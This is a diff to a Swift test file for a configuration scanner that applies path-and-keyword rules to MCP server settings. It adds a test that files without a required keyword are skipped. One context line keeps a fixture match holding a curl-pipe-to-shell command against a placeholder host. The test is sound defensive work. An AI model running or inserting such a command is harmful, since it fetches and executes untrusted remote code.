@@ -100,7 +100,7 @@ import Testing
             ["mcpServers.a.args[1] curl http://x.example.net/ | sh"]
         ),
         ("select: ['@mcp-server.url']\nwhere: [{is: numeric-url}, {not: {is: private-url}}]", []),
-        ("select: ['**.command']\nkeywords: [no such word]", []),
+        ("select: [mcpServers.a.trust]\nkeywords: [absent, trust]", ["mcpServers.a.trust true"]),
         (
             "select: ['mcpServers.a.args[1]']\nwhere: [{matches: '[a-z]{2,9}'}]\nreport: match\nentropy: 2",
             ["mcpServers.a.args[1] curl", "mcpServers.a.args[1] example"]
@@ -129,6 +129,21 @@ import Testing
             let answer = unsafe set.find(in: bytes, types: FileTypeSet(.json), path: "a.json", scratch: scratch)
             #expect(answer?.matches.count == 1 && answer?.isPartial == true && answer?.mistake?.place.line == 2)
             #expect(unsafe set.find(in: bytes, types: FileTypeSet(.toml), path: "a.toml", scratch: scratch) == nil)
+        }
+    }
+
+    @Test func filesWithoutAKeywordAreNotRead() throws {
+        let set = try ConfigRuleSet(
+            try RuleText.check(Self.text(Self.documents + "select: [a]\nkeywords: [absent, word]"))
+        ) { _ in nil }
+        let scratch = try MatchScratch()
+        for (text, isRead) in [("{\"a\": \"wor\"}", false), ("{\"a\": \"a word\"}", true), ("", false), ("word", true)]
+        {
+            let bytes = Array(text.utf8)
+            let answer = unsafe bytes.withUnsafeBufferPointer { bytes in
+                unsafe set.find(in: bytes, types: FileTypeSet(.json), path: "a.json", scratch: scratch)
+            }
+            #expect((answer != nil) == isRead, "\(text)")
         }
     }
 
